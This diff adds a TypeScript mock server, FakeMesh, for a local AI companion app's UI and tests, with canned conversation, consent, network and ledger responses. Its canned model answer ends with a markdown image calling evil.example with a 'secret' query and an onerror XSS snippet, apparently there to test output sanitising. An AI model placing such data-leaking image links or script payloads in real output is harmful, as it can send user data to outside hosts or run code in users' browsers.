@@ -1,0 +1,304 @@
+import { create } from "@bufbuild/protobuf";
+import { type Timestamp, timestampFromDate } from "@bufbuild/protobuf/wkt";
+import { Code, ConnectError, type Transport, createRouterTransport } from "@connectrpc/connect";
+import { LedgerService, VerifyResult_Verdict } from "../gen/pmm/ledger/v1/ledger_pb";
+import {
+  type ConverseRequest,
+  ConversationService,
+  FailureSchema,
+  GetTraceResponse_Confirmation,
+  type Message,
+  MessageSchema,
+  MindSchema,
+  MindService,
+  Outcome,
+  Phase_Step,
+  Stage,
+} from "../gen/pmm/mind/v1/mind_pb";
+import { ConsentSchema, ConsentService, Consent_Scope, Consent_State, Locality, ModelSchema, ModelService, NetworkMode, NetworkService } from "../gen/pmm/provider/v1/provider_pb";
+import { DoorService, SessionService } from "../gen/pmm/ui/v1/ui_pb";
+
+const REMOTE = "openai:gpt-4.1";
+const ANSWER = `Last March you planted tomatoes and the late frost took them. You told me you’d rather lose a week than the seedlings, so we settled on this:
+
+- start them indoors in the **second week of April**
+- beans go straight in the ground after 10 May
+
+I also said I would remind you to order seed potatoes. That’s still open, so: this is your reminder.
+
+\`\`\`sh
+pmm verify --deep mind.db
+\`\`\`
+
+| Bed | What | When |
+|---|---|---|
+| 1 | Tomatoes | 14 May |
+| 2 | Beans | 10 May |
+
+See [the almanac](https://example.org/almanac?very=long&address=1) and ![a bed](https://evil.example/pixel.png?q=secret). <img src=x onerror=alert(1)>`;
+
+/** A mesh in memory: enough of it to use the page, and for its tests. */
+export class FakeMesh {
+  messages: Message[] = [];
+  modelId = "ollama:llama3.1";
+  offline = false;
+  allowed = new Set<string>();
+  consents: { host: string; scope: Consent_Scope; state: Consent_State }[] = [];
+  title = "The garden in spring";
+  /** Milliseconds between pieces of an answer. */
+  pace = 0;
+  answer = ANSWER;
+  knownToken = true;
+  private nextId = 3275n;
+  private live = new Map<string, AbortController>();
+
+  event(): bigint {
+    return this.nextId++;
+  }
+
+  said(text: string, fromPerson: boolean, more: Partial<Message> = {}): Message {
+    const message = create(MessageSchema, {
+      eventId: this.event(),
+      parentEventId: this.messages.at(-1)?.eventId ?? 0n,
+      fromPerson,
+      text,
+      createTime: timestampFromDate(new Date()),
+      outcome: fromPerson ? Outcome.UNSPECIFIED : Outcome.ANSWERED,
+      modelId: fromPerson ? "" : this.modelId,
+      elapsedMs: fromPerson ? 0n : 4200n,
+    });
+    Object.assign(message, more);
+    message.siblingEventIds = more.siblingEventIds ?? [message.eventId];
+    this.messages.push(message);
+    return message;
+  }
+
+  private async *converse(request: ConverseRequest, signal: AbortSignal) {
+    const { act } = request;
+    const conversationId = request.conversationId || "garden";
+    let kept = "";
+    if (act.case === "edit" || act.case === "continue") {
+      const at = this.messages.findIndex((message) => message.eventId === act.value.eventId);
+      if (act.case === "continue") kept = this.messages[at]!.text;
+      this.messages = this.messages.slice(0, at);
+    } else if (act.case === "regenerate" || act.case === "retry") {
+      const at = this.messages.findIndex((message) => message.eventId === act.value.eventId);
+      this.messages = this.messages.slice(0, at + 1);
+    }
+    const question = act.case === "say" || act.case === "edit" ? this.said(act.value.text, true) : this.messages.at(-1)!;
+    const abort = new AbortController();
+    this.live.set(request.requestId, abort);
+    const ended = () => signal.aborted || abort.signal.aborted;
+    yield { part: { case: "started" as const, value: { conversationId, userEventId: question.eventId, modelId: this.modelId, attemptId: request.requestId } } };
+    yield { part: { case: "phase" as const, value: { step: Phase_Step.READING, memoryCount: 14 } } };
+    await this.wait(4);
+    yield { part: { case: "phase" as const, value: { step: Phase_Step.THINKING } } };
+    await this.wait(8);
+    if (this.modelId === REMOTE && !this.allowed.has(request.requestId) && !this.allowed.has(conversationId)) {
+      const failure = create(FailureSchema, {
+        reason: "CONSENT_REQUIRED",
+        message: "no consent for api.openai.com",
+        host: "api.openai.com",
+        purpose: "chat",
+        dataClasses: ["message", "memory"],
+        wouldSend: [
+          { role: "system", text: "You are Echo. You are warm and curious." },
+          { role: "user", text: question.text },
+        ],
+      });
+      const failed = this.said("", false, { outcome: Outcome.FAILED, failure: create(FailureSchema, { ...failure, wouldSend: [] }) });
+      yield { part: { case: "finished" as const, value: { outcome: Outcome.FAILED, outcomeEventId: failed.eventId, failure } } };
+      return;
+    }
+    yield { part: { case: "opened" as const, value: { modelId: this.modelId, locality: "proved" } } };
+    let text = kept;
+    for (const piece of this.answer.match(/\S+\s*/g) ?? []) {
+      if (ended()) break;
+      text += piece;
+      yield { part: { case: "text" as const, value: piece } };
+      await this.wait(1);
+    }
+    const outcome = ended() ? Outcome.STOPPED : Outcome.ANSWERED;
+    const done = this.said(text, false, { outcome, parentEventId: question.eventId });
+    if (outcome === Outcome.ANSWERED) {
+      done.notes = [{ $typeName: "pmm.mind.v1.Note", eventId: this.event(), kind: "commitment_closed", text: "Remind you to order seed potatoes in early spring" }];
+      done.siblingEventIds = [done.eventId, done.eventId + 1000n];
+    }
+    yield { part: { case: "finished" as const, value: { outcome, outcomeEventId: done.eventId, promptTokens: 1204, answerTokens: 160 } } };
+  }
+
+  private wait(steps: number): Promise<void> {
+    return new Promise((resolve) => setTimeout(resolve, this.pace * steps));
+  }
+
+  transport(): Transport {
+    const now = (): Timestamp => timestampFromDate(new Date());
+    const guard = () => {
+      if (!this.knownToken) throw new ConnectError("no session", Code.Unauthenticated);
+    };
+    return createRouterTransport(({ service }) => {
+      service(DoorService, {
+        exchangeLoginCode: ({ code }) => {
+          if (code !== "good") throw new ConnectError("not valid", Code.Unauthenticated);
+          this.knownToken = true;
+          return { sessionToken: "token", sessionId: "s1" };
+        },
+        createChallenge: () => {
+          throw new ConnectError("unknown browser", Code.Unauthenticated);
+        },
+      });
+      service(SessionService, {
+        getMesh: () => {
+          guard();
+          return { sessionId: "s1", version: "0.1.0", services: ["ledger", "mind", "provider", "ui"].map((each) => ({ service: each, serving: true })) };
+        },
+        listSessions: () => ({
+          sessions: [
+            { sessionId: "s1", userAgent: "Mozilla/5.0 (X11; Linux x86_64) Chrome/140", createTime: now(), lastSeenTime: now(), live: true },
+            { sessionId: "s2", userAgent: "Mozilla/5.0 (Macintosh; Mac OS X) Firefox/130", createTime: now(), lastSeenTime: timestampFromDate(new Date(Date.now() - 7_200_000)), remembered: true },
+          ],
+        }),
+        revokeSession: () => ({}),
+        rememberBrowser: () => ({ browserId: "b1" }),
+        beginStepUp: () => ({ stepUpId: "step" }),
+        confirmStepUp: ({ mindName }) => {
+          if (mindName !== "Echo") throw new ConnectError("another name", Code.InvalidArgument);
+          return {};
+        },
+      });
+      service(MindService, {
+        getMind: () => {
+          guard();
+          return {
+            mind: create(MindSchema, {
+              name: "Echo",
+              stage: Stage.S2,
+              modelId: this.modelId,
+              messageCount: 3281n,
+              memoryCount: 14,
+              traits: [["openness", 0.8], ["conscientiousness", 0.58], ["extraversion", 0.49], ["agreeableness", 0.72], ["neuroticism", 0.34]].map(([name, score]) => ({ name: name as string, score: score as number })),
+            }),
+          };
+        },
+        listCommitments: () => ({ commitments: [{ commitmentId: "1", text: "Remind you to order seed potatoes" }, { commitmentId: "2", text: "Ask how the Lisbon interview went" }] }),
+        selectModel: ({ modelId }) => {
+          this.modelId = modelId;
+          return { eventId: this.event() };
+        },
+      });
+      service(ModelService, {
+        listModels: () => ({
+          models: [
+            create(ModelSchema, { modelId: "ollama:llama3.1", locality: Locality.PROVED, url: "http://127.0.0.1:11434" }),
+            create(ModelSchema, { modelId: "local:mistral-small", locality: Locality.DECLARED, url: "http://127.0.0.1:8080" }),
+            create(ModelSchema, { modelId: REMOTE, locality: Locality.REMOTE, url: "https://api.openai.com/v1" }),
+          ],
+        }),
+      });
+      service(ConversationService, {
+        converse: (request, context) => this.converse(request, context.signal),
+        stopAnswer: ({ attemptId }) => {
+          const live = this.live.get(attemptId);
+          live?.abort();
+          return { stopped: live !== undefined };
+        },
+        listConversations: ({ archived }) => ({
+          conversations: archived
+            ? []
+            : [
+                { conversationId: "garden", title: this.title, updateTime: now(), messageCount: this.messages.length },
+                { conversationId: "lisbon", title: "Before the interview in Lisbon, what to read", updateTime: now() },
+              ],
+        }),
+        getConversation: ({ conversationId, pageSize, beforeEventId }) => {
+          guard();
+          const all = conversationId === "garden" ? this.messages : [];
+          const end = beforeEventId === 0n ? all.length : all.findIndex((message) => message.eventId === beforeEventId);
+          const start = Math.max(0, end - (pageSize || 50));
+          return { conversation: { conversationId, title: this.title }, messages: all.slice(start, end), hasMore: start > 0 };
+        },
+        selectBranch: () => ({}),
+        renameConversation: ({ title }) => {
+          this.title = title;
+          return {};
+        },
+        getTrace: ({ eventId, prompt }) => ({
+          eventId,
+          modelId: this.modelId,
+          modelDigest: "sha256:46e0c10c039e019119339687c3c1757cc81b9da49709a3b3924863ba87ca666e",
+          locality: "proved",
+          promptTokens: 1204,
+          answerTokens: 160,
+          elapsedMs: 4200n,
+          outcome: Outcome.ANSWERED,
+          confirmation: GetTraceResponse_Confirmation.CONFIRMED,
+          sources: [
+            { eventId: 2104n, section: "memory", text: "Frost killed all twelve tomato plants.", fromPerson: true, createTime: timestampFromDate(new Date(2026, 2, 14)), score: 7.42 },
+            { eventId: 2377n, section: "recall", text: "Beans after the ice saints, 10 May.", createTime: timestampFromDate(new Date(2026, 3, 2)), score: 5.1 },
+            { eventId: 3001n, section: "commitment", text: "Remind about seed potatoes", createTime: now() },
+            { eventId: 3275n, section: "turn", text: "I’m going to try the garden again this spring.", fromPerson: true, createTime: now() },
+          ],
+          traits: [{ name: "agreeableness", score: 0.72 }, { name: "openness", score: 0.8 }],
+          prompt: prompt ? [{ role: "system", text: "You are Echo.\nYou are warm." }, { role: "user", text: "Where did we leave off?" }] : [],
+        }),
+      });
+      service(NetworkService, {
+        getNetwork: () => ({ mode: this.offline ? NetworkMode.OFFLINE : NetworkMode.ASK, remoteCallsToday: this.allowed.size, hostsToday: this.allowed.size ? ["api.openai.com"] : [] }),
+        goOffline: () => {
+          this.offline = true;
+          return {};
+        },
+        leaveOffline: (_, context) => {
+          if (context.requestHeader.get("pmm-step-up") !== "step") throw new ConnectError("step up first", Code.PermissionDenied);
+          this.offline = false;
+          return {};
+        },
+        listAttempts: () => ({
+          attempts: [
+            { eventId: 3120n, createTime: now(), host: "api.openai.com:443", purpose: "chat", modelId: REMOTE, locality: Locality.REMOTE, outcome: "refused", reason: "CONSENT_REQUIRED" },
+            { eventId: 3101n, createTime: now(), host: "127.0.0.1:11434", purpose: "chat", modelId: "ollama:llama3.1", locality: Locality.PROVED, outcome: "done", sentBytes: 5120n, receivedBytes: 20480n },
+          ],
+        }),
+      });
+      service(ConsentService, {
+        grantConsent: ({ host, boundTo, scope }) => {
+          this.allowed.add(boundTo);
+          this.consents.unshift({ host, scope, state: Consent_State.ACTIVE });
+          return {};
+        },
+        denyConsent: ({ host }) => {
+          this.consents.unshift({ host, scope: Consent_Scope.UNSPECIFIED, state: Consent_State.DENIED });
+          return {};
+        },
+        revokeConsent: ({ consentId }) => {
+          this.consents[Number(consentId) - 1]!.state = Consent_State.REVOKED;
+          return {};
+        },
+        listConsents: () => ({
+          consents: this.consents.map((each, index) => create(ConsentSchema, { ...each, consentId: BigInt(index + 1), purpose: "chat", dataClasses: ["message", "memory"], createTime: now() })),
+        }),
+      });
+      service(LedgerService, {
+        getLedgerInfo: () => ({
+          path: "/home/ada/.pmm/mind.db",
+          sizeBytes: 4_812_800n,
+          eventCount: 3281n,
+          headHash: "9f3ca1d27be04c6f8d6a5b20cc0e9a7741d7e5a99d3fbb1e2c87b02e5a99d3fb",
+          mindId: "0199a3f2-7b1e-7c55-9d2e-3f7a54f0a1c2",
+          createTime: timestampFromDate(new Date(Date.now() - 83 * 86_400_000)),
+          verifyTime: timestampFromDate(new Date(Date.now() - 120_000)),
+        }),
+        verifyLedger: async function* () {
+          for (let checked = 0n; checked < 3281n; checked += 500n) {
+            await new Promise((resolve) => setTimeout(resolve, 20));
+            yield { part: { case: "progress" as const, value: { checkedCount: checked, eventCount: 3281n } } };
+          }
+          yield { part: { case: "result" as const, value: { verdict: VerifyResult_Verdict.WHOLE, checkedCount: 3281n, headHash: "9f3ca1d2", notes: ["Compared with the head seen at 17:04: extends it."] } } };
+        },
+        exportLedger: async function* () {
+          yield { jsonl: new TextEncoder().encode('{"pmm":1}\n'), eventCount: 3281n, totalEventCount: 3281n };
+        },
+      });
+    });
+  }
+}
